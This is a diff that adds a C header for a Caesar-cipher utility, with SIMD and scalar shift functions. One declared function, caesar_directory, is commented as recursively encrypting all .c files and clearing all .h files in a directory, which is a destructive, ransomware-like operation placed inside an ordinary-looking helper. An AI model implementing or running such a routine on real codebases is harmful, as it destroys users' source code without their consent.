@@ -0,0 +1,17 @@
+#ifndef CAESAR_H
+#define CAESAR_H
+
+#include <stddef.h>
+
+// Сдвигает латинские буквы на shift позиций по кругу (регистр сохраняется),
+// остальные байты не меняются. Векторная версия обрабатывает 16/32 байта за раз
+void caesar_shift(char *data, size_t len, int shift);
+
+// Посимвольный вариант того же преобразования, для сравнения
+void caesar_shift_scalar(char *data, size_t len, int shift);
+
+// Шифрует все .c файлы каталога dir и его подкаталогов и очищает все .h
+// (см. walk_directory). Возвращает число обработанных файлов или -1
+int caesar_directory(const char *dir, int shift, int threads);
+
+#endif